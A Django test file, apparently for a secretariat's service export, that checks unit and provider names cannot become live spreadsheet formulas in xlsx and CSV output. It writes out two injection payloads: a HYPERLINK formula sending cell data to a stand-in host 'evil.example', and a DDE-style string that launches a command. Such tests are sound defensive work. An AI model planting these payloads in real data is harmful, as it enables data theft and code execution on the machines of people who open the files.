"""Issue #12.7: a unit's name must not become a live formula in the secretariat's export."""

import csv
import io

from django.urls import reverse
from openpyxl import load_workbook

ATTACK = '=HYPERLINK("https://evil.example/?x="&B2,"点击查看")'


def test_unit_name_formula_is_plain_text_in_the_xlsx_export(client_for, secretariat, submitted_request):
    submitted_request.organisation.__class__.objects.filter(pk=submitted_request.organisation_id).update(name=ATTACK)
    response = client_for(secretariat).get(reverse("services_export"), {"format": "xlsx"})
    book = load_workbook(io.BytesIO(response.content))
    formulas = [(ws.title, c.coordinate) for ws in book for row in ws.iter_rows() for c in row if c.data_type == "f"]
    assert formulas == []
    names = [c.value for row in book["申请明细"].iter_rows() for c in row if c.value == ATTACK]
    assert len(names) == 1


def test_provider_name_formula_is_defused_in_the_csv_export(client_for, secretariat, submitted_request):
    provider = submitted_request.provider
    provider.__class__.objects.filter(pk=provider.pk).update(name="@SUM(1+1)*cmd|' /C calc'!A0")
    response = client_for(secretariat).get(reverse("services_export"), {"format": "csv"})
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[1][0] == "'@SUM(1+1)*cmd|' /C calc'!A0"
